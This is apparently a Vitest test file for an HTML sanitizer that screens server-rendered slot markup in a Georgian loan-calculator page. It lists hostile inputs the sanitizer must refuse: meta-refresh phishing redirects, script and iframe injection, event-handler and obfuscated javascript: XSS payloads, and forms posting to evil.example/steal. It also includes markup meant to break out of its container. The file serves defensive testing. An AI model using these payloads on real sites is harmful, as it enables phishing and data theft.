// @vitest-environment node

import { parse, parseFragment, serialize, type DefaultTreeAdapterTypes as Tree } from 'parse5';
import { checkSlotMarkup } from './slot-markup';

/*
 * Issue 56, row 4: a slot's server markup goes into the page only when nothing in it can steer
 * the page, and then as a browser parsed it. The browser here is parse5 itself: the WHATWG
 * algorithm every browser runs.
 */

/** What a browser makes of markup inside a slot's container, written out. */
const domOf = (html: string) => serialize(parseFragment(html));

/** The element with this id in a parsed page, and the tag names of the elements above it. */
function find(node: Tree.ParentNode, id: string, above: string[] = []): string[] | undefined {
  for (const child of node.childNodes) {
    if (!('tagName' in child)) continue;
    if (child.attrs.some((attr) => attr.name === 'id' && attr.value === id)) return above;
    const found = find(child, id, [...above, child.tagName]);
    if (found) return found;
  }
  return undefined;
}

/** Markup as React renders our components: forms, inputs, an inline icon, a boundary's marker. */
const COMPONENTS = [
  '<section class="calc" aria-labelledby="t"><h2 id="t">სესხის კალკულატორი</h2>',
  '<form action="/loans/apply" method="get"><label for="a">თანხა</label>',
  '<input id="a" type="range" min="100" max="5000" step="50" value="1000" aria-valuetext="1 000 ₾" inputMode="numeric"/>',
  '<input type="checkbox" checked=""/><textarea name="n">შენიშვნა &amp; სხვა</textarea>',
  '<output for="a">1\u00a0000,00\u00a0₾</output><!-- --><noscript><p>ჩართეთ JavaScript</p></noscript>',
  '<button type="submit" data-discover="true">გაგრძელება</button></form>',
  '<svg viewBox="0 0 24 24" aria-hidden="true" focusable="false"><path d="M4 12h16" stroke="currentColor" stroke-width="2" stroke-linecap="round"/><use href="#icon"/></svg>',
  '<a href="https://nbg.gov.ge/" rel="noreferrer">ეროვნული ბანკი</a><a href="tel:+995322000000">ზარი</a>',
  '<img src="/assets/slide.9f2c.webp" alt="" loading="lazy"/><img src="data:image/png;base64,iVBORw0KGgo=" alt=""/>',
  '<!--$!--><template data-msg="Switched to client rendering"></template><!--/$--></section>',
].join('');

describe('a slot’s server markup', () => {
  it('takes what our components render, and gives the page what a browser would have made of it', () => {
    const checked = checkSlotMarkup(COMPONENTS);
    if (!('html' in checked)) throw new Error(`refused: ${checked.problem}`);
    expect(domOf(checked.html)).toBe(domOf(COMPONENTS));
    // Money reads as React wrote it: 1 000,00 ₾ with its no-break spaces, not as entities.
    expect(checked.html).toContain('1\u00a0000,00\u00a0₾</output>');
    expect(checkSlotMarkup('<p>&amp;nbsp;</p>')).toEqual({ html: '<p>&amp;nbsp;</p>' });
  });

  it.each([
    // The probe's: a refresh to a phishing page, which CSP does not cover.
    [
      '<div><meta http-equiv="refresh" content="3;url=https://evil.example/phish"></div>',
      'element <meta>',
    ],
    ['<base href="https://evil.example/">', 'element <base>'],
    ['<script>fetch("/api/user/details/")</script>', 'element <script>'],
    ['<iframe src="https://evil.example/"></iframe>', 'element <iframe>'],
    ['<object data="https://evil.example/x.swf"></object>', 'element <object>'],
    ['<embed src="https://evil.example/x">', 'element <embed>'],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', 'element <link>'],
    ['<style>body{display:none}</style>', 'element <style>'],
    ['<math><mi>x</mi></math>', 'element <math>'],
    ['<img src="/x.png" onerror="alert(1)">', 'attribute onerror on <img>'],
    ['<div ONCLICK="alert(1)">x</div>', 'attribute onclick on <div>'],
    ['<svg onload="alert(1)"></svg>', 'attribute onload on <svg>'],
    ['<a href="javascript:alert(1)">x</a>', 'javascript: address (href on <a>)'],
    ['<a href=" JaVa&#x09;Script:alert(1)">x</a>', 'javascript: address (href on <a>)'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>', 'data: address (href on <a>)'],
    ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', 'data: address (src on <img>)'],
    ['<img srcset="/a.png 1x, javascript:alert(1) 2x">', 'javascript: address (srcset on <img>)'],
    ['<form action="https://evil.example/steal"><input name="p"></form>', 'form sent off the site'],
    ['<form action="//evil.example/steal"></form>', 'form sent off the site'],
    ['<button formaction="https://evil.example/">x</button>', 'form sent off the site'],
    ['<svg><use href="https://evil.example/sprite.svg#i"></use></svg>', 'address out of <use>'],
    ['<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', 'element <a>'],
    ['<svg><foreignObject><div>x</div></foreignObject></svg>', 'element <foreignobject>'],
    ['<iframe srcdoc="x"></iframe>', 'element <iframe>'],
    ['<p srcdoc="x">x</p>', 'attribute srcdoc on <p>'],
    // Read as markup, as a browser without scripts reads it.
    [
      '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript>',
      'element <meta>',
    ],
    ['<template><meta http-equiv="refresh" content="0"></template>', 'element <meta>'],
  ])('refuses %s', (html, problem) => {
    const checked = checkSlotMarkup(html);
    expect('problem' in checked ? checked.problem : 'taken').toContain(problem);
  });

  it('closes nothing of the page around it and opens nothing that swallows it', () => {
    for (const hostile of [
      '<p>in</p></div></main><div id="outside">',
      '<p>in</p><!--',
      '<p>in</p><textarea>',
      '<p>in</p><select><option>',
      '<p>in</p><table><tr><td>',
    ]) {
      const checked = checkSlotMarkup(hostile);
      if (!('html' in checked)) throw new Error(`refused: ${checked.problem}`);
      const page = parse(
        `<!doctype html><main><div id="slot">${checked.html}</div><p id="after">after</p></main>`,
      );
      // What follows the slot is still the page's, and what the slot opened stays inside it.
      expect(find(page, 'after'), hostile).toEqual(['html', 'body', 'main']);
      const outside = find(page, 'outside');
      if (outside) expect(outside.slice(0, 4), hostile).toEqual(['html', 'body', 'main', 'div']);
    }
  });
});
